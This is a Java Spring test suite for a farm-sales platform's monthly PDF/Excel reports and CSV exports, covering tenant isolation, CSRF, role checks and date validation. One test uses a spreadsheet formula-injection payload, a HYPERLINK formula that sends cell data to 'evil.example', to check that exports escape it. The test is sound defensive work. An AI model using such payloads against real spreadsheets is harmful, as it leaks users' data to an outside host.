package org.farmgate.statistics.report;

import java.io.ByteArrayInputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.YearMonth;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.UUID;

import com.lowagie.text.pdf.PdfReader;
import com.lowagie.text.pdf.parser.PdfTextExtractor;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.farmgate.FarmgateTest;
import org.farmgate.accounts.SignedInUser;
import org.farmgate.orders.OrderPaid;
import org.farmgate.registry.OrganisationRecorded;
import org.farmgate.registry.Platform;
import org.farmgate.registry.ShopOpened;
import org.farmgate.statistics.Filter;
import org.farmgate.statistics.StatisticsQueries;
import org.farmgate.statistics.Summary;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationEventPublisher;
import org.springframework.context.MessageSource;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.security.core.userdetails.UserDetailsService;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.transaction.support.TransactionTemplate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.redirectedUrl;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * The monthly report of the demo county, produced in the background: its PDF prints the
 * month's net sales as the summary computes them and its workbook holds the same figures
 * as numbers; a merchant's report and exports hold its organisation's figures only;
 * stations get nothing, a form without its CSRF token is refused, and another user's
 * report is not found.
 */
@FarmgateTest
class StatisticsReportTests {

	private static final String COUNTY = "520122";

	private static final Locale ZH = Locale.SIMPLIFIED_CHINESE;

	/** A month long past, for sales made up by the tests. */
	private static final YearMonth FIXTURE = YearMonth.of(2005, 6);

	@Autowired
	org.farmgate.registry.RegistryManagement registry;

	@Autowired
	MockMvc mvc;

	@Autowired
	JdbcTemplate jdbc;

	@Autowired
	UserDetailsService users;

	@Autowired
	StatisticsQueries queries;

	@Autowired
	ReportManagement reports;

	@Autowired
	MessageSource messages;

	@Autowired
	ApplicationEventPublisher events;

	@Autowired
	TransactionTemplate transactions;

	private SignedInUser analyst;

	private SignedInUser merchant;

	private SignedInUser station;

	private YearMonth month;

	@BeforeEach
	void settle() {
		settle(this.jdbc);
		this.analyst = (SignedInUser) this.users.loadUserByUsername("analyst");
		this.merchant = (SignedInUser) this.users.loadUserByUsername("merchant");
		this.station = (SignedInUser) this.users.loadUserByUsername("station");
		// the latest month with sales of the demo county
		LocalDate last = this.jdbc.queryForObject(
				"SELECT max(day) FROM statistics_sales_day WHERE county_code = ? AND orders > 0", LocalDate.class,
				COUNTY);
		assertThat(last).as("the demo county sold something").isNotNull();
		this.month = YearMonth.from(last);
	}

	@Test
	void theAnalystsReportPrintsTheMonthsNetSalesAndItsWorkbookHoldsTheSummarysFigures() throws Exception {
		this.mvc
			.perform(post("/statistics/reports").param("month", this.month.toString())
				.param("area", COUNTY)
				.with(user(this.analyst))
				.with(csrf()))
			.andExpect(status().is3xxRedirection())
			.andExpect(redirectedUrl("/statistics/reports"));
		UUID id = latest(this.analyst);
		assertThat(awaitDone(id).status()).isEqualTo(ReportStatus.DONE);
		Summary summary = this.queries.summary(filter(null));
		assertThat(summary.salesNet()).isPositive();

		MockHttpServletResponse pdf = this.mvc
			.perform(get("/statistics/reports/" + id + ".pdf").with(user(this.analyst)))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse();
		assertThat(pdf.getHeader("Content-Disposition")).startsWith("attachment").contains(".pdf");
		String text = text(pdf.getContentAsByteArray());
		assertThat(text).contains(ReportNumbers.money(summary.salesNet(), ZH))
			.contains(ReportNumbers.money(summary.salesGross(), ZH));

		// the list offers both files, and the finished row is no longer polled
		String fragment = this.mvc.perform(get("/statistics/reports/" + id + "/progress").with(user(this.analyst)))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString();
		assertThat(fragment).contains("report-" + id)
			.contains(id + ".pdf")
			.contains(id + ".xlsx")
			.doesNotContain("hx-trigger");
		assertThat(this.mvc.perform(get("/statistics/reports").with(user(this.analyst)))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString()).contains(id + ".pdf");

		MockHttpServletResponse xlsx = this.mvc
			.perform(get("/statistics/reports/" + id + ".xlsx").with(user(this.analyst)))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse();
		assertThat(xlsx.getHeader("Content-Disposition")).startsWith("attachment").contains(".xlsx");
		try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx.getContentAsByteArray()))) {
			Sheet headline = workbook.getSheetAt(0);
			assertThat(figure(headline, "statistics.report.sales-net")).isEqualTo(summary.salesNet().doubleValue());
			assertThat(figure(headline, "statistics.report.sales-gross")).isEqualTo(summary.salesGross().doubleValue());
			assertThat(figure(headline, "statistics.report.sales-net-ytd"))
				.isEqualTo(summary.salesNetYearToDate().doubleValue());
			assertThat(figure(headline, "statistics.report.orders")).isEqualTo(summary.orders());
			assertThat(figure(headline, "statistics.report.shops")).isEqualTo(summary.shops());
			assertThat(figure(headline, "statistics.report.active-shops")).isEqualTo(summary.activeShops());
			assertThat(figure(headline, "statistics.report.provinces")).isEqualTo(summary.provincesReached());
			assertThat(figure(headline, "statistics.report.farmers")).isEqualTo(summary.farmersIncomeIncreased());
			assertThat(workbook.getNumberOfSheets()).isGreaterThanOrEqualTo(8);
			assertNoFormula(workbook);
		}
	}

	@Test
	void progressMovesFromQueuedToDone() {
		ReportView queued = this.reports.request(this.analyst, COUNTY, this.month, ZH);
		assertThat(queued.status()).isEqualTo(ReportStatus.QUEUED);
		assertThat(queued.progress()).isZero();
		List<Integer> seen = new ArrayList<>();
		ReportView now = queued;
		long deadline = System.nanoTime() + Duration.ofSeconds(60).toNanos();
		while (!now.finished() && System.nanoTime() < deadline) {
			now = this.reports.find(this.analyst, queued.id()).orElseThrow();
			seen.add(now.progress());
			pause();
		}
		assertThat(now.status()).isEqualTo(ReportStatus.DONE);
		assertThat(now.progress()).isEqualTo(100);
		assertThat(seen).isSorted();
	}

	@Test
	void aMerchantsReportAndExportsHoldItsOwnOrganisationsFiguresOnly() throws Exception {
		UUID own = this.merchant.scope().organisationId();
		UUID ownShop = this.jdbc.queryForObject(
				"SELECT shop_id FROM statistics_shop WHERE organisation_id = ? ORDER BY shop_id LIMIT 1", UUID.class,
				own);
		// a month long past, where the merchant and another organisation each sold once
		UUID other = UUID.randomUUID();
		UUID otherShop = UUID.randomUUID();
		UUID ownOrder = UUID.randomUUID();
		UUID otherOrder = UUID.randomUUID();
		BigDecimal ownAmount = new BigDecimal("123.45");
		BigDecimal otherAmount = new BigDecimal("98765.43");
		Instant paidAt = FIXTURE.atDay(15).atTime(12, 0).atZone(ZoneId.of("Asia/Shanghai")).toInstant();
		try {
			this.transactions.executeWithoutResult(status -> {
				this.events.publishEvent(new OrganisationRecorded(other, COUNTY, null, null, null, true));
				this.events.publishEvent(
						new ShopOpened(otherShop, other, COUNTY, Platform.JD, FIXTURE.minusYears(1).atDay(1)));
				this.events.publishEvent(new OrderPaid(ownOrder, "R-" + ownOrder, ownShop, own, COUNTY, Platform.TAOBAO,
						ownAmount, "320000", "320100", "320102", paidAt,
						List.of(new OrderPaid.Line(null, 1, ownAmount)), paidAt));
				this.events.publishEvent(new OrderPaid(otherOrder, "R-" + otherOrder, otherShop, other, COUNTY,
						Platform.JD, otherAmount, "440000", "440100", "440103", paidAt,
						List.of(new OrderPaid.Line(null, 1, otherAmount)), paidAt));
			});
			settle(this.jdbc);
			Summary mine = this.queries.summary(filter(own, FIXTURE));
			Summary county = this.queries.summary(filter(null, FIXTURE));
			assertThat(mine.salesNet()).isEqualByComparingTo(ownAmount);
			assertThat(county.salesNet()).isEqualByComparingTo(ownAmount.add(otherAmount));

			this.mvc
				.perform(post("/statistics/reports").param("month", FIXTURE.toString())
					.param("area", COUNTY)
					.with(user(this.merchant))
					.with(csrf()))
				.andExpect(status().is3xxRedirection());
			UUID id = latest(this.merchant);
			assertThat(awaitDone(id).organisationId()).isEqualTo(own);
			byte[] xlsx = this.mvc.perform(get("/statistics/reports/" + id + ".xlsx").with(user(this.merchant)))
				.andExpect(status().isOk())
				.andReturn()
				.getResponse()
				.getContentAsByteArray();
			try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
				assertThat(figure(workbook.getSheetAt(0), "statistics.report.sales-net"))
					.isEqualTo(ownAmount.doubleValue());
				assertThat(figure(workbook.getSheetAt(0), "statistics.report.orders")).isEqualTo(1);
				for (Sheet sheet : workbook) {
					for (Row row : sheet) {
						for (Cell cell : row) {
							if (cell.getCellType() == CellType.NUMERIC) {
								assertThat(cell.getNumericCellValue())
									.as(sheet.getSheetName() + "!" + cell.getAddress())
									.isNotIn(otherAmount.doubleValue(), county.salesNet().doubleValue());
							}
							else {
								assertThat(cell.getStringCellValue()).doesNotContain(other.toString().substring(0, 8))
									.doesNotContain("广东");
							}
						}
					}
				}
			}
			String pdf = text(this.mvc.perform(get("/statistics/reports/" + id + ".pdf").with(user(this.merchant)))
				.andExpect(status().isOk())
				.andReturn()
				.getResponse()
				.getContentAsByteArray());
			assertThat(pdf).contains(ReportNumbers.money(ownAmount, ZH))
				.doesNotContain(ReportNumbers.money(otherAmount, ZH))
				.doesNotContain(ReportNumbers.money(county.salesNet(), ZH));

			// no export holds the other organisation's figures, whatever the merchant
			// asks
			for (String table : CsvExports.TABLES) {
				String csv = fixtureMonthExport(table, this.merchant);
				assertThat(csv).as(table)
					.doesNotContain(otherAmount.toPlainString())
					.doesNotContain(county.salesNet().toPlainString())
					.doesNotContain("440000");
			}
			String organisations = fixtureMonthExport("organisations", this.merchant);
			assertThat(organisations.lines().toList()).hasSize(2).last().asString().endsWith(",1,123.45");
			// the shops by the names the merchant gave them
			String ownShopName = this.registry.shops(this.merchant)
				.stream()
				.filter(shop -> shop.id().equals(ownShop))
				.findFirst()
				.orElseThrow()
				.name();
			String shops = fixtureMonthExport("shops", this.merchant);
			assertThat(shops.lines().toList()).hasSize(2).last().asString().endsWith(",1,123.45").contains(ownShopName);
			// the analyst sees both in the county's export
			assertThat(fixtureMonthExport("organisations", this.analyst)).contains("98765.43").contains("123.45");
			// asking for another organisation or the city is refused
			this.mvc
				.perform(get("/statistics/export/organisations.csv").param("organisation", other.toString())
					.with(user(this.merchant)))
				.andExpect(status().isForbidden());
			this.mvc
				.perform(get("/statistics/export/organisations.csv").param("area", "520100").with(user(this.merchant)))
				.andExpect(status().isForbidden());
		}
		finally {
			// the fixture's sales must not change the demo's figures for other tests
			this.jdbc.update("DELETE FROM statistics_sale WHERE order_id IN (?, ?)", ownOrder, otherOrder);
			this.jdbc.update("DELETE FROM statistics_sales_day WHERE county_code = ? AND day BETWEEN ? AND ?", COUNTY,
					FIXTURE.atDay(1), FIXTURE.atEndOfMonth());
			this.jdbc.update("DELETE FROM statistics_product_day WHERE county_code = ? AND day BETWEEN ? AND ?", COUNTY,
					FIXTURE.atDay(1), FIXTURE.atEndOfMonth());
			for (String monthly : java.util.List.of("statistics_sales_month", "statistics_reach_month",
					"statistics_product_month")) {
				this.jdbc.update("DELETE FROM " + monthly + " WHERE county_code = ? AND month = ?", COUNTY,
						FIXTURE.atDay(1));
			}
			this.jdbc.update("DELETE FROM statistics_shop WHERE shop_id = ?", otherShop);
			this.jdbc.update("DELETE FROM statistics_organisation WHERE organisation_id = ?", other);
			// the rows went by hand, not through the rollup and the facts: readers
			// keeping
			// them in memory read everything again
			this.jdbc.update("INSERT INTO statistics_change (county_code, day) VALUES ('*', DATE '2000-01-01')");
		}
	}

	@Test
	void anotherUsersReportIsNotFoundAndStationsGetNoReports() throws Exception {
		ReportView analysts = this.reports.request(this.analyst, COUNTY, this.month, ZH);
		awaitDone(analysts.id());
		for (String path : new String[] { "/statistics/reports/" + analysts.id() + ".pdf",
				"/statistics/reports/" + analysts.id() + ".xlsx", "/statistics/reports/" + analysts.id() + "/progress",
				"/statistics/reports/" + UUID.randomUUID() + ".pdf" }) {
			this.mvc.perform(get(path).with(user(this.merchant))).andExpect(status().isNotFound());
		}
		// staff of the same area read it
		SignedInUser operator = (SignedInUser) this.users.loadUserByUsername("operator");
		this.mvc.perform(get("/statistics/reports/" + analysts.id() + ".pdf").with(user(operator)))
			.andExpect(status().isOk());
		// a merchant's own list does not show the analyst's report
		String page = this.mvc.perform(get("/statistics/reports").with(user(this.merchant)))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString();
		assertThat(page).doesNotContain(analysts.id().toString());

		this.mvc.perform(get("/statistics/reports").with(user(this.station))).andExpect(status().isForbidden());
		this.mvc.perform(
				post("/statistics/reports").param("month", this.month.toString()).with(user(this.station)).with(csrf()))
			.andExpect(status().isForbidden());
		this.mvc.perform(get("/statistics/reports/" + analysts.id() + ".pdf").with(user(this.station)))
			.andExpect(status().isForbidden());
		this.mvc.perform(get("/statistics/export/villages.csv").with(user(this.station)))
			.andExpect(status().isForbidden());
		SignedInUser trainer = (SignedInUser) this.users.loadUserByUsername("trainer");
		this.mvc.perform(get("/statistics/export/villages.csv").with(user(trainer))).andExpect(status().isForbidden());
	}

	@Test
	void aRequestWithoutItsCsrfTokenIsRefused() throws Exception {
		Integer before = this.jdbc.queryForObject("SELECT count(*) FROM statistics_report", Integer.class);
		this.mvc
			.perform(post("/statistics/reports").param("month", this.month.toString())
				.param("area", COUNTY)
				.with(user(this.analyst)))
			.andExpect(status().isForbidden());
		assertThat(this.jdbc.queryForObject("SELECT count(*) FROM statistics_report", Integer.class)).isEqualTo(before);
	}

	@Test
	void aMalformedMonthRedisplaysTheFormAndAnotherCitysReportIsRefused() throws Exception {
		this.mvc
			.perform(post("/statistics/reports").param("month", "2026-13")
				.param("area", COUNTY)
				.with(user(this.analyst))
				.with(csrf()))
			.andExpect(status().isOk());
		this.mvc
			.perform(post("/statistics/reports").param("month", this.month.toString())
				.param("area", "110100")
				.with(user(this.analyst))
				.with(csrf()))
			.andExpect(status().isForbidden());
	}

	@Test
	void everyTableExportsAsCsvWithAByteOrderMarkAndAMalformedDateIsABadRequestThatSaysWhy() throws Exception {
		for (String table : CsvExports.TABLES) {
			MockHttpServletResponse response = this.mvc
				.perform(get("/statistics/export/" + table + ".csv").param("area", "520100")
					.param("from", this.month.atDay(1).toString())
					.param("to", this.month.atEndOfMonth().toString())
					.with(user(this.analyst)))
				.andExpect(status().isOk())
				.andReturn()
				.getResponse();
			assertThat(response.getContentType()).startsWith("text/csv");
			assertThat(response.getHeader("Content-Disposition")).startsWith("attachment")
				.contains("statistics-" + table + "-520100-" + this.month.atDay(1));
			String body = response.getContentAsString(StandardCharsets.UTF_8);
			assertThat(body).as(table).startsWith("\uFEFF");
		}
		String provinces = this.mvc
			.perform(get("/statistics/export/provinces.csv").param("from", this.month.atDay(1).toString())
				.param("to", this.month.atEndOfMonth().toString())
				.with(user(this.analyst)))
			.andReturn()
			.getResponse()
			.getContentAsString(StandardCharsets.UTF_8);
		assertThat(provinces.lines().count()).isGreaterThan(1);
		MockHttpServletResponse bad = this.mvc
			.perform(get("/statistics/export/villages.csv").param("from", "2026-02-30x").with(user(this.analyst)))
			.andExpect(status().isBadRequest())
			.andReturn()
			.getResponse();
		assertThat(bad.getContentAsString(StandardCharsets.UTF_8)).contains("2026-02-30x")
			.doesNotContain("Exception")
			.doesNotContain("at org.");
		// a period the wrong way round, or reaching before 2000, is refused with what is
		// wrong
		String reversed = refusedExport("2026-05-01", "2026-04-01");
		assertThat(reversed).isEqualTo("开始日期 2026-05-01 晚于结束日期 2026-04-01。");
		String ancient = refusedExport("1900-01-01", "2026-04-01");
		assertThat(ancient).isEqualTo("日期须在 2000-01-01 至今天之间：1900-01-01 至 2026-04-01。");
		this.mvc.perform(get("/statistics/export/secrets.csv").with(user(this.analyst)))
			.andExpect(status().isNotFound());
	}

	@Test
	void namesThatLookLikeFormulasStayText() throws Exception {
		String evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
		Summary summary = this.queries.summary(filter(null));
		MonthlyReport report = new MonthlyReport(COUNTY, "+修文县", "@organisation", this.month, summary,
				this.queries.monthly(filter(null)), List.of(new MonthlyReport.Line("-1+2", 1, 0, BigDecimal.TEN)),
				List.of(), List.of(new MonthlyReport.Line(evil, 2, 3, BigDecimal.ONE)),
				List.of(new MonthlyReport.Line(evil, 2, 0, BigDecimal.ONE)), List.of(),
				List.of(new MonthlyReport.Taobao(evil, BigDecimal.ONE, 1, 1, 10, false, BigDecimal.TEN, 0)));
		ReportWorkbook writer = new ReportWorkbook(this.messages);
		try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(writer.write(report, ZH)))) {
			assertNoFormula(workbook);
			Sheet products = workbook.getSheet(message("statistics.report.table.products"));
			Cell cell = products.getRow(1).getCell(0);
			assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
			assertThat(cell.getStringCellValue()).isEqualTo(evil);
			assertThat(
					workbook.getSheet(message("statistics.report.table.platforms")).getRow(1).getCell(0).getCellType())
				.isEqualTo(CellType.STRING);
		}
		// the PDF prints it as it is, in every language
		for (Locale locale : new Locale[] { ZH, Locale.ENGLISH, Locale.FRENCH }) {
			// French groups thousands with a no-break space, which text extraction reads
			// as a space
			assertThat(text(new ReportPdf(this.messages).write(report, locale)).replace('\u00a0', ' ')
				.replaceAll(" +", " ")).as(locale.toString())
				.contains("HYPERLINK")
				.contains(ReportNumbers.money(summary.salesNet(), locale).replace('\u00a0', ' '));
		}

		java.io.StringWriter csv = new java.io.StringWriter();
		CsvExports.write(List.<Object[]>of(new Object[] { evil, 2L, new BigDecimal("-5.00") },
				new Object[] { "+1", "@SUM(A1)", "-2" }), csv);
		List<String> lines = csv.toString().substring(1).lines().toList();
		assertThat(lines.get(0)).startsWith("\"'=HYPERLINK(").endsWith(",2,-5.00");
		assertThat(lines.get(1)).isEqualTo("'+1,'@SUM(A1),'-2");
	}

	@Test
	void aReportLeftRunningByARestartFailsAndCanBeAskedForAgain() {
		UUID id = UUID.randomUUID();
		this.jdbc.update("""
				INSERT INTO statistics_report (id, area_code, month, locale, requested_by, status, progress)
				VALUES (?, ?, ?, 'zh-CN', ?, 'RUNNING', 40)""", id, COUNTY, this.month.toString(), this.analyst.id());
		this.reports.resume();
		ReportView failed = this.reports.find(this.analyst, id).orElseThrow();
		assertThat(failed.status()).isEqualTo(ReportStatus.FAILED);
		assertThat(failed.message()).isEqualTo("statistics.report.error.interrupted");
	}

	private Filter filter(UUID organisation) {
		return filter(organisation, this.month);
	}

	private static Filter filter(UUID organisation, YearMonth month) {
		return new Filter(COUNTY, null, organisation, null, null, month.atDay(1), month.atEndOfMonth());
	}

	private UUID latest(SignedInUser user) {
		return this.jdbc.queryForObject(
				"SELECT id FROM statistics_report WHERE requested_by = ? ORDER BY requested_at DESC LIMIT 1",
				UUID.class, user.id());
	}

	private ReportView awaitDone(UUID id) {
		long deadline = System.nanoTime() + Duration.ofSeconds(60).toNanos();
		ReportView report = this.reports.find(this.analyst, id).orElse(null);
		while (System.nanoTime() < deadline) {
			String status = this.jdbc.queryForObject("SELECT status FROM statistics_report WHERE id = ?", String.class,
					id);
			if (ReportStatus.valueOf(status).finished()) {
				String message = this.jdbc.queryForObject("SELECT message FROM statistics_report WHERE id = ?",
						String.class, id);
				assertThat(status).as(String.valueOf(message)).isEqualTo("DONE");
				return this.reports.find(this.analyst, id).orElse(report);
			}
			pause();
		}
		throw new AssertionError("report " + id + " not done after 60 s");
	}

	private double figure(Sheet sheet, String key) {
		String label = message(key);
		for (Row row : sheet) {
			if (row.getCell(0) != null && label.equals(row.getCell(0).getStringCellValue())) {
				assertThat(row.getCell(1).getCellType()).as(label).isEqualTo(CellType.NUMERIC);
				return row.getCell(1).getNumericCellValue();
			}
		}
		throw new AssertionError("no row " + label);
	}

	private String message(String key) {
		return this.messages.getMessage(key, null, ZH);
	}

	private static void assertNoFormula(XSSFWorkbook workbook) {
		for (Sheet sheet : workbook) {
			for (Row row : sheet) {
				for (Cell cell : row) {
					assertThat(cell.getCellType()).as(sheet.getSheetName() + "!" + cell.getAddress())
						.isNotEqualTo(CellType.FORMULA);
				}
			}
		}
	}

	private static String text(byte[] pdf) throws Exception {
		PdfReader reader = new PdfReader(pdf);
		try {
			PdfTextExtractor extractor = new PdfTextExtractor(reader);
			StringBuilder text = new StringBuilder();
			for (int page = 1; page <= reader.getNumberOfPages(); page++) {
				text.append(extractor.getTextFromPage(page)).append('\n');
			}
			return text.toString();
		}
		finally {
			reader.close();
		}
	}

	private static void pause() {
		try {
			Thread.sleep(50);
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
		}
	}

	/** Waits until every listener took every publication (the outbox is empty). */
	static void settle(JdbcTemplate jdbc) {
		long deadline = System.nanoTime() + Duration.ofSeconds(120).toNanos();
		while (System.nanoTime() < deadline) {
			Integer owed = jdbc.queryForObject("SELECT count(*) FROM event_publication WHERE completion_date IS NULL",
					Integer.class);
			if (owed != null && owed == 0) {
				return;
			}
			pause();
		}
		throw new AssertionError("event publications still owed after 120 s");
	}

	/** The body of a villages CSV export refused (400) for the period. */
	private String refusedExport(String from, String to) throws Exception {
		return this.mvc
			.perform(
					get("/statistics/export/villages.csv").param("from", from).param("to", to).with(user(this.analyst)))
			.andExpect(status().isBadRequest())
			.andReturn()
			.getResponse()
			.getContentAsString(StandardCharsets.UTF_8);
	}

	/** A table's export of the fixture's month, as the user gets it (answered 200). */
	private String fixtureMonthExport(String table, SignedInUser user) throws Exception {
		return this.mvc
			.perform(get("/statistics/export/" + table + ".csv").param("from", FIXTURE.atDay(1).toString())
				.param("to", FIXTURE.atEndOfMonth().toString())
				.with(user(user)))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString(StandardCharsets.UTF_8);
	}

}
